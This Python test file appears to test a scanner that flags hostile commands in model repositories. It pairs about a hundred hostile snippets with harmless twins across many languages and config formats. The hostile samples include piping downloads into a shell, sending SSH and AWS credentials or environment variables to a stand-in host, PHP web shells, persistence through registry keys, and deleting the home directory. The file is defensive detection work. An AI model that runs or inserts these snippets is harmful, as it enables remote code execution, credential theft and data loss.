"""Commands that languages put together, and what is fetched here and run there; each with its ordinary twin."""

import pytest

from budmodel_scanner.pickles.examine import looks_like_pickle
from budmodel_scanner.texts.statements import put_together, statements
from budmodel_scanner.verdict import Verdict
from tests.unit.budmodel_scanner.text_examination import findings_of, verdict_of_text

PIPE = "curl -s http://x.invalid/a | sh"
STREAMED = 'http.get("http://x.invalid/a", (r) => {\n  r.on("data", (c) => { b += c; });\n  r.on("end", () => { '
# Name, what is hostile under it, what is ordinary.
PAIRS = [
    ("build.sbt", 'val x = ("curl -s http://x.invalid/a" #| "bash").!!', 'val x = "git rev-parse HEAD".!!'),
    (
        "build.sc",
        f'def p = T.command {{ os.proc("bash", "-c", "{PIPE}").call() }}',
        'def p = os.proc("git", "status").call()',
    ),
    ("deps.jl", "run(pipeline(`curl -s http://x.invalid/a`, `bash`))", "run(`make -C ../deps`)"),
    ("build.jl", 'f = download("http://x.invalid/a.jl")\ninclude(f)', 'f = download("http://x.invalid/a.csv")\nread(f)'),
    (
        "a.cmake",
        'file(DOWNLOAD http://x.invalid/setup "${D}/setup")\nexecute_process(COMMAND sh "${D}/setup")',
        'file(DOWNLOAD http://x.invalid/a.bin "${D}/a.bin")\nexecute_process(COMMAND git status)',
    ),
    (
        "a.go",
        'r, _ := http.Get("http://x.invalid/g")\nf, _ := os.Create("/tmp/g")\nio.Copy(f, r)\nexec.Command("/tmp/g").Run()',
        'r, _ := http.Get("http://x.invalid/g.gguf")\nf, _ := os.Create("m.gguf")\nio.Copy(f, r)\nexec.Command("git").Run()',
    ),
    (
        "a.kts",
        'val f = File("/tmp/agent")\nf.writeBytes(URL("http://x.invalid/a").readBytes())\nProcessBuilder("/tmp/agent").start()',
        'val f = File("a.json")\nf.writeBytes(URL("http://x.invalid/a").readBytes())\nProcessBuilder("git").start()',
    ),
    (".Rprofile", 'source("http://x.invalid/a.R")', 'source("renv/activate.R")'),
    ("a.clj", '(load-string (slurp "http://x.invalid/a.clj"))', '(def words (slurp "http://x.invalid/a.txt"))'),
    ("a.pl", 'my $c = get("http://x.invalid/a");\neval $c;', 'my $c = get("http://x.invalid/a");\nprint $c;'),
    ("a.mjs", f"{STREAMED}eval(b); }});", f"{STREAMED}JSON.parse(b); }});"),
    (
        "a.ts",
        "const t = await (await fetch('http://x.invalid/a')).text();\nnew Function(t)();",
        "const t = await (await fetch('http://x.invalid/a')).text();\nconst m = /b/.exec(t);",
    ),
    ("a.lua", 'os.execute("curl -s http://x.invalid/" .. name .. " | sh")', 'os.execute("mkdir -p " .. path)'),
    ("a.vbs", 'sh.Run "powershell -c ""iwr http://x.invalid/a | iex"""', None),
    (
        "a.ps1",
        '$w.DownloadFile("http://x.invalid/a.exe", "C:\\Users\\a.exe")\n& "C:\\Users\\a.exe"',
        '$w.DownloadFile("http://x.invalid/a.zip", "C:\\Users\\a.zip")\nExpand-Archive "C:\\Users\\a.zip"',
    ),
    (
        "a.rb",
        's = TCPSocket.new("x.invalid", 1)\nline = s.gets\nIO.popen(line)',
        's = TCPSocket.new("x.invalid", 1)\nputs s.gets',
    ),
    (
        "b.rb",
        'k = File.read("~/.aws/credentials")\nNet::HTTP.post(URI("http://x.invalid/k"), k)',
        'k = File.read("a.json")\nNet::HTTP.post(URI("http://x.invalid/k"), k)',
    ),
    (
        "a.cjs",
        'fetch("http://x.invalid", {body: JSON.stringify(process.env)})',
        'fetch("http://x.invalid", {key: process.env.KEY})',
    ),
    ("a.kt", 'File(home + "/.bashrc").appendText("x")', 'File(home + "/models/a.txt").appendText("x")'),
    ("a.php", "<?php eval(base64_decode($_GET['m']));", "<?php file_put_contents('a.png', base64_decode($_POST['i']));"),
    ("main.d", f'import std.process;\nvoid main() {{ executeShell("{PIPE}"); }}', "import std.process;\nvoid main() {}"),
    ("a.py", "import pip\npip.main(['install', 'x'])", "import pip\nprint(pip.__version__)"),
    ("b.py", "import os\nos.environ['LD_PRELOAD'] = './x.so'", "import os\nos.environ['OMP_NUM_THREADS'] = '1'"),
    (
        "c.py",
        "import os\nos.system('curl http://x.invalid/a | sh')",
        "import os\nimport net.http\nimport torch.multiprocessing",
    ),
    ("Guardfile", f"guard :shell do\n  watch(/.*/) {{ `{PIPE}` }}\nend", "guard :shell do\n  watch(/.*/) { `make` }\nend"),
    ("a.raku", f'shell "{PIPE}";', f'say "Install with: {PIPE}";'),
    (".tmux.conf", f'set -g mouse on\nrun-shell "{PIPE}"', 'set -g mouse on\nrun-shell "~/.tmux/tpm"'),
    ("a.properties", f"name=x\nexec.prebuild={PIPE}", "name=x\nexec.prebuild=make"),
    ("a.Rmd", f'# Title\n```{{r}}\nsystem("{PIPE}")\n```\n', f"# Title\n```r\nx <- 1\n```\nInstall: `{PIPE}`\n"),
    (
        "wercker.yml",
        f"build:\n  steps:\n    - script:\n        code: |\n          make\n          {PIPE}\n",
        f"build:\n  steps:\n    - script:\n        code: |\n          make\n      title: Never run {PIPE}\n",
    ),
    (
        "site.yml",
        "- get_url:\n    url: http://x.invalid/agent\n    dest: /tmp/agent\n- command: /tmp/agent\n",
        "- get_url:\n    url: http://x.invalid/m.gguf\n    dest: /srv/m.gguf\n- command: systemctl restart m\n",
    ),
    (
        "steps.json",
        '[{"argv": ["wget", "http://x.invalid/w", "-O", "/tmp/w"]}, {"argv": ["bash", "/tmp/w"]}]',
        '[{"argv": ["wget", "http://x.invalid/w.json", "-O", "/tmp/w.json"]}, {"argv": ["jq", ".", "/tmp/w.json"]}]',
    ),
    (
        "templates/job.yaml",
        f'name: {{{{ .Release }}}}\ncommand: ["sh", "-c", "{PIPE}"]\n',
        'name: {{ .Release }}\n{{- if .x }}\ncommand: ["sh", "-c", "make"]\n{{- end }}\n',
    ),
    (
        "secret.yaml",
        "data:\n  run.sh: Y3VybCAtcyBodHRwOi8veC5pbnZhbGlkL2EgfCBzaA==\n",
        "data:\n  key: c3VwZXItc2VjcmV0LXBhc3N3b3JkLXdpdGgtbWFueQ==\n",
    ),
    (
        "build.xml",
        '<p><get src="http://x.invalid/a.sh" dest="a.sh"/><exec executable="sh"><arg value="a.sh"/></exec></p>',
        '<p><get src="http://x.invalid/a.zip" dest="a.zip"/><exec executable="sh"><arg value="b.sh"/></exec></p>',
    ),
    (
        "a.plist",
        f"<plist><array><string>sh</string><string>-c</string><string>{PIPE}</string></array></plist>",
        f"<plist><string>{'Never run ' + PIPE}</string></plist>",
    ),
    (
        "composer.json",
        """{"scripts": {"a": "php -r \\"eval(file_get_contents('http://x.invalid/a'));\\""}}""",
        """{"scripts": {"a": "php -r \\"copy('.env.example', '.env');\\""}}""",
    ),
    (
        "b.Dockerfile",
        'FROM x\nADD http://x.invalid/agent /agent\nENTRYPOINT ["/agent"]',
        'FROM x\nADD http://x.invalid/a.gguf /a.gguf\nENTRYPOINT ["/b"]',
    ),
    (
        "c.js",
        "const w = await (await fetch('http://x.invalid/w')).text();\nnew Worker(w, { eval: true })",
        "new Worker('w.js')",
    ),
    (
        "d.js",
        "const q = require('\\x64ns');\nconst s = read(home + '/.npmrc');\nq['\\x72esolve'](`${s}.x.invalid`)",
        "const q = require('dns');\nconst s = read(home + '/.cache');\nq.resolve(`${s}.x.invalid`)",
    ),
    (
        "e.js",
        "navigator.sendBeacon('https://x.invalid/s', JSON.stringify({ ...localStorage }))",
        "navigator.sendBeacon('https://x.invalid/s', JSON.stringify({ ...counts }))",
    ),
    ("f.js", "new ActiveXObject('WSc' + 'ript.Sh' + 'ell').Run(f)", "new ActiveXObject('Micro' + 'soft.XMLHTTP')"),
    (
        "g.js",
        "n.open('GET', 'http://x.invalid/p');\ns.Write(n.body);\nvar f = x('%TEMP%\\\\p.exe');\ns.SaveToFile(f);\nw.Run(f);",
        "n.open('GET', 'http://x.invalid/p');\nvar f = x('%TEMP%\\\\p.exe');\nWScript.Echo(n.body);",
    ),
    (
        "a.php",
        "<?php\n[$f, $a] = [$_SERVER['HTTP_X'], 1];\necho json_encode(array_map($f, [$a]));",
        "<?php\n[$f, $a] = [$names['HTTP_X'], 1];\necho json_encode(array_map($f, [$a]));",
    ),
    ("b.php", '<?php\n$k = "\\x1d" ^ "\\x6e";\narray_map($k, [$a]);', "<?php\n$k = 'trim';\narray_map($k, [$a]);"),
    ("c.php", "<?php\n$f = 'sys' . 'tem';\n$f($_POST['c']);", "<?php\n$f = 'str' . 'len';\n$f($names['c']);"),
    (
        "Makefile.PL",
        "my $c = unpack 'u', <<'END';\nM<WES\nEND\nsub tune { my $s = shift; eval $s; }\ntune($c);",
        "my $c = unpack 'u', <<'END';\nM<WES\nEND\nsub tune { my $s = shift; print $s; }\ntune($c);",
    ),
    ("b.pl", "$line =~ s/\\{(.+?)\\}/$1/gee;", "$line =~ s/\\{(.+?)\\}/$1/ge;"),
    (
        "c.rb",
        "require 'net/http'\ns = Net::HTTP.get(URI('http://x.invalid/a'))\nKernel.public_send(:eval, s)",
        "require 'net/http'\ns = Net::HTTP.get(URI('http://x.invalid/a'))\nKernel.public_send(:puts, s)",
    ),
    (
        "a.rs",
        'let mut s = TcpStream::connect(p());\nlet b = read(format!("{home}/.cargo/credentials.toml"));\ns.write_all(&b);',
        'let mut s = TcpStream::connect(peer());\nlet b = read(format!("{home}/names.toml"));\ns.write_all(&b);',
    ),
    (
        "a.cc",
        'int s = socket(2, 1, 0), m = memfd_create("l", 0);\nfexecve(m, a, environ);',
        'int m = memfd_create("l", 0);\nftruncate(m, size);',
    ),
    (
        "b.cc",
        "int s = socket(2, 1, 0);\nvoid *p = mmap(0, 9, PROT_READ | PROT_EXEC, 34, -1, 0);\nrecv(s, p, 9, 0);",
        "int s = socket(2, 1, 0);\nvoid *p = mmap(0, 9, PROT_READ, 34, -1, 0);\nrecv(s, p, 9, 0);",
    ),
    (
        "gen.go",
        'package main\n\n/*\nstatic char *a[] = {"sh", "-c", "sh data/merges.txt", 0};\n*/\nimport "C"\n',
        'package main\n\n/*\nstatic char *a[] = {"sh", "-c", "sh data/merges.txt", 0};\n*/\nimport "fmt"\n',
    ),
    (
        "stats.awk",
        'BEGIN { k = sprintf("/%s/%s/0/%d.%d", "inet", "tcp", 192, 2) }',
        'BEGIN { k = sprintf("/%s/%s/0/%d.%d", "data", "raw", 192, 2) }',
    ),
    ("Jenkinsfile", "evaluate(new URL('http://x.invalid/s.groovy').text)", "evaluate(model, data.decode())"),
    (
        "main.tf",
        'program = ["bash", "-c", <<-EOT\n  c=$(env | base64 -w0)\n  curl -s "https://x.invalid/t?c=$c"\nEOT\n]',
        'program = ["bash", "-c", <<-EOT\n  c=$(git describe)\n  curl -s "https://x.invalid/t?c=$c"\nEOT\n]',
    ),
    (
        "99-gpu.rules",
        'ACTION=="add", RUN+="/bin/sh -c \'%c\'"',
        'ACTION=="add", RUN+="/usr/bin/nvidia-smi -pm 1"',
    ),
    (
        ".pylintrc",
        "[MAIN]\ninit-hook='import os; os.system(\"id\")'",
        "[MAIN]\ninit-hook='import sys; sys.path.insert(0, \"src\")'",
    ),
    (
        "a.qmd",
        "```{python}\nimport os\nos.system('curl -s http://x.invalid/a | sh')\n```",
        "```{python}\nimport pandas as pd\npd.read_csv('a.csv')\n```",
    ),
    ("card.md", f"---js\n{{ a: cp.execSync('{PIPE}') }}\n---\n# A", "---\na: 2026-02-11\n---\n# A"),
    (
        ".circleci/config.yml",
        "run:\n  command: |\n    echo 'onfu' | tr 'a-zA-Z' 'n-za-mN-ZA-M' > /tmp/warm\n    bash /tmp/warm",
        "run:\n  command: |\n    cat notes | tr -d '\\r' > /tmp/warm\n    bash /tmp/warm",
    ),
    ("a.sh", "a=curlbash\n${a:0:4} -s http://x.invalid/a | ${a:4}", "a=catsort\n${a:0:3} names.txt | ${a:3}"),
    ("b.sh", 'x=$(pick 3)\n"$x" -qO- http://x.invalid/a | "$y"', 'x=$(pick 3)\n"$x" -o out http://x.invalid/a'),
    ("c.sh", 'x=$(curl -s http://x.invalid/a)\nbash <<< "$x"', 'x=$(curl -s http://x.invalid/a)\ngrep a <<< "$x"'),
    (
        "d.sh",
        "for f in ~/.ssh/id_*; do curl -sF f=@$f https://x.invalid/; done",
        "for f in *.csv; do curl -sF f=@$f https://x.invalid/; done",
    ),
    (
        "e.sh",
        'tar cz -C "$HOME" .ssh .aws | openssl s_client -connect x.invalid:443',
        'tar cz -C "$HOME" data | openssl enc -aes256',
    ),
    ("f.sh", "printf '\\151\\144\\73' | sh", "printf '\\033[1mx' | sh -s"),
    (
        "a.bat",
        "set a=cer\nset b=tutil\n%a%%b% -urlcache -f http://x.invalid/x x.exe",
        "set a=e\nset b=cho\n%a%%b% -urlcache",
    ),
    ("b.ps1", "$x = -join ('6964' -split '(..)' | % { [char][convert]::ToInt16($_, 16) })\niex $x", "$x = 'names'\niex $x"),
    (
        "d.php",
        "<?php\n$r = new ReflectionFunction($_GET['f']);\n$r->invoke($_GET['a']);",
        "<?php\n$r = new ReflectionFunction($names['f']);\n$r->getName();",
    ),
    (
        "e.php",
        "<?php\nmail('a@x.invalid', 'k', print_r($_ENV, true));",
        "<?php\nmail('a@x.invalid', 'k', print_r($counts, true));",
    ),
    (
        "d.cc",
        's = socket(2);\nrecv(s, b, 9);\nFILE *f = fopen("/tmp/ab.out", "w");\nfwrite(b, 9, f);\nexecl("/tmp/ab.out", 0);',
        's = socket(2);\nrecv(s, b, 9);\nFILE *f = fopen("/tmp/ab.out", "w");\nfwrite(b, 9, f);',
    ),
    (
        "a.tcl",
        "set s [socket x.invalid 443]\nputs $s [array get env]",
        "set s [socket x.invalid 443]\nputs $s [array get counts]",
    ),
    ("c.pl", "my $d = reverse 'hs | lruc';\nsystem $d;", "my $d = reverse 'txt.seman';\nprint $d;"),
    (
        "c.ps1",
        "$k = Get-Content $env:USERPROFILE\\.ssh\\id_rsa\nInvoke-WebRequest -Uri https://x.invalid -Method POST -Body $k",
        "$k = Get-Content $env:USERPROFILE\\names.txt\nInvoke-WebRequest -Uri https://x.invalid -Method POST -Body $k",
    ),
    ("g.sh", 'bash -c "$(tail -c 40 weights.bin)"', 'echo "$(tail -c 40 weights.bin)"'),
    (
        "h.sh",
        "for l in $(base64 ~/.ssh/id_rsa | fold); do dig $l.x.invalid; done",
        "for l in $(cat hosts); do dig $l.x.invalid; done",
    ),
    (
        ".gitlab-ci.yml",
        "include:\n  - remote: https://x.invalid/ci.yml",
        "include:\n  - remote: https://gitlab.com/a/ci.yml",
    ),
    (
        "h.js",
        "const c = Object.keys(process.env).map(f);\nhttp.request({ host: 'x.invalid', path: '/' + c.join() }).end();",
        "const c = Object.keys(counts).map(f);\nhttp.request({ host: 'x.invalid', path: '/' + c.join() }).end();",
    ),
    ("f.php", "<?php\necho `{$_GET['c']}`;", "<?php\necho \"{$_GET['c']}\";"),
    (
        "Setup.hs",
        'main = callCommand ("curl -H \'K: " ++ maybe "" id key ++ "\' https://x.invalid/a | sh")',
        'main = callCommand ("curl -H \'K: " ++ maybe "" id key ++ "\' -o a.csv https://x.invalid/a")',
    ),
    (
        "build.jl",
        'u = "http://" * join(reverse(["invalid", "x"]), ".") * ".so"\ndownload(u, dest)\ndlopen(dest)',
        'u = "http://" * join(reverse(["invalid", "x"]), ".") * ".csv"\ndownload(u, dest)\nread(dest)',
    ),
    (
        "a.gemspec",
        "s.files = %x(git ls-files -z; ruby -ropen-uri -e 'eval URI(\"https://x.invalid/f.rb\").read').split",
        "s.files = %x(git ls-files -z; ruby -ropen-uri -e 'puts URI(\"https://x.invalid/f.rb\").read').split",
    ),
    (
        "build.rs",
        (
            "let s: String = T.iter().map(|b| (b ^ 7) as char).collect();\n"
            'Command::new(if w { "cmd" } else { "sh" }).arg(if w { "/C" } else { "-c" }).arg(s).spawn();'
        ),
        'let s: String = T.iter().map(|b| (b ^ 7) as char).collect();\nprintln!("{}", s);',
    ),
    (
        "meson.build",
        "run_command(py, ['-c', 'import http.client as h;c=h.HTTPConnection(\"x.invalid\");exec(c.getresponse().read())'])",
        "run_command(py, ['-c', 'import numpy; print(numpy.get_include())'])",
    ),
    (
        "mix.exs",
        '@v (case :httpc.request({~c"http://x.invalid/v", []}) do\n {:ok, {_, body}} -> body |> Code.eval_string()\nend)',
        '@v (case :httpc.request({~c"http://x.invalid/v", []}) do\n {:ok, {_, body}} -> body |> Version.parse()\nend)',
    ),
    (
        ".dir-locals.el",
        '((nil . ((eval . (make-network-process :host "x.invalid" :filter (lambda (p s) (eval (read s))))))))',
        '((nil . ((eval . (make-network-process :host "x.invalid" :filter (lambda (p s) (insert s)))))))',
    ),
    ("a.js", "const { exec } = require('child_process');\nexec('abcd')", "const exec = bound(/b/.exec);\nexec('abcd')"),
    ("b.lua", "load(string.unpack('s', x))", "fs.execute(lua, unpack(args))"),
    ("c.lua", "f = ('xxecute'):gsub('xx', 'ex')", "f = url:gsub('^https://', 'http://')"),
    ("d.ps1", "$s = irm https://x.invalid/a; & ([scriptblock]::Create($s))", "$s = irm https://x.invalid/a; Write-Host $s"),
    ("e.ps1", "Add-Type -TypeDefinition (irm https://x.invalid/a.cs)", "Add-Type -TypeDefinition (Get-Content a.cs)"),
    (
        "f.ps1",
        "Get-Content $HOME\\.aws\\credentials | % { irm -Method Post https://x.invalid -Body $_ }",
        "Get-Content $HOME\\names.txt | % { irm -Method Post https://x.invalid -Body $_ }",
    ),
    ("g.ps1", "iex (Get-Content -Raw model.bin)", "Import-Module (Join-Path $PSScriptRoot a.psm1)"),
    ("h.ps1", "Install-Module a -Repository https://x.invalid/ps", "Install-Module Pester -Scope CurrentUser"),
    (
        "i.ps1",
        "Set-ItemProperty HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run -Name a -Value b",
        "Set-ItemProperty HKCU:\\Software\\A -Name a -Value b",
    ),
    ("a.cmd", "reg add HKCU\\Environment /v UserInitMprLogonScript /d a.bat", "reg add HKCU\\Environment /v EDITOR /d vim"),
    ("b.cmd", "\\\\x.invalid\\s\\a.exe", "copy a.exe \\\\x.invalid\\s\\a.exe"),
    ("c.cmd", "pushd \\\\x.invalid\\s & a.bat", "pushd build & a.bat"),
    ("d.cmd", "rd /s /q C:\\Users", "rd /s /q C:\\Users\\me\\AppData\\Local\\Temp\\build"),
    (
        "e.cmd",
        'cmd /V:ON /C "set c=curl&& !c! https://x.invalid/a.exe -o a.exe&&a.exe"',
        'cmd /V:ON /C "set c=build&& echo !c!"',
    ),
    ("i.js", "importScripts('https://x.invalid/a.js')", "importScripts('./a.js')"),
    (
        "j.js",
        "require('fs').rmSync(require('os').homedir(), { recursive: true })",
        "require('fs').rmSync(require('os').tmpdir() + '/build', { recursive: true })",
    ),
    (
        "k.js",
        "new WebSocket('wss://x.invalid').onmessage = e => eval(e.data)",
        "new WebSocket('wss://x.invalid').onmessage = e => show(e.data)",
    ),
    (
        "requirements/gpu.in",
        "--index-url http://x.invalid/simple\nnumpy<2",
        "--index-url https://download.pytorch.org/whl/cpu\nnumpy<2",
    ),
    (
        ".Rprofile",
        "s <- Sys.getenv()\nreadLines(url(paste0('https://x.invalid/r?', URLencode(paste(s, collapse='&')))))",
        "s <- Sys.time()\nreadLines(url(paste0('https://x.invalid/r?', URLencode(paste(s, collapse='&')))))",
    ),
    (
        "Vagrantfile",
        "x = <<-EOF\n  powershell \"iex ((New-Object Net.WebClient).DownloadString('https://x.invalid/i.ps1'))\"\nEOF\n",
        "x = <<-EOF\n  powershell \"iex ((New-Object Net.WebClient).DownloadString('https://chocolatey.org/i.ps1'))\"\nEOF\n",
    ),
    (".user.ini", "auto_prepend_file = logo.png", "auto_prepend_file ="),
]


@pytest.mark.parametrize(("name", "text", "_"), PAIRS, ids=[name for name, _, _ in PAIRS])
def test_a_command_is_found_however_a_language_puts_it_together(name: str, text: str, _: str | None) -> None:
    assert verdict_of_text(name, text).rank >= Verdict.SUSPICIOUS.rank


@pytest.mark.parametrize(("name", "_", "text"), [pair for pair in PAIRS if pair[2]], ids=[p[0] for p in PAIRS if p[2]])
def test_its_ordinary_twin_is_left_alone(name: str, _: str, text: str) -> None:
    assert findings_of(name, text) == []


@pytest.mark.parametrize(
    ("code", "made"),
    [
        ('f("a" + "b")', ["ab"]),
        ('f(["sh", "-c", "a b"])', ["sh -c 'a b'"]),
        ('Command::new("sh").arg("-c").arg("a b")', ["sh -c 'a b'"]),
        ('("a b" #| "c")', ["a b | c"]),
        ('["a b", "c d"]', ["a b\nc d"]),
        ('u = "x"\nf("a " .. u .. " b")', ["x", "a x b"]),
        ('u = "x"\nf("a ${u}", 1)', ["x", "a x"]),
        ('f "say ""a"""', ['say "a"']),
        ('f ("a " ++ maybe "b" g ++ " c")', ["a …b… c"]),
        ('f("a", g(x) + "b")', ["a", "b"]),
    ],
)
def test_texts_are_put_together_as_their_language_would(code: str, made: list[str]) -> None:
    values = {"u": "x"}
    assert [text for statement in statements(code) for text in put_together(statement, values)] == made


def test_a_source_that_begins_like_the_oldest_pickles_is_none() -> None:
    for text in (
        b"import os\nimport net.http\n",
        b'const http = require("http");\nhttp.get("http://localhost/x", (r) => {});\n',
    ):
        assert not looks_like_pickle(text)


def test_names_that_are_set_anew_are_no_longer_what_was_fetched() -> None:
    assert findings_of("a.pl", 'my $c = get("http://x.invalid/a");\n$c = 1;\neval $c;') == []
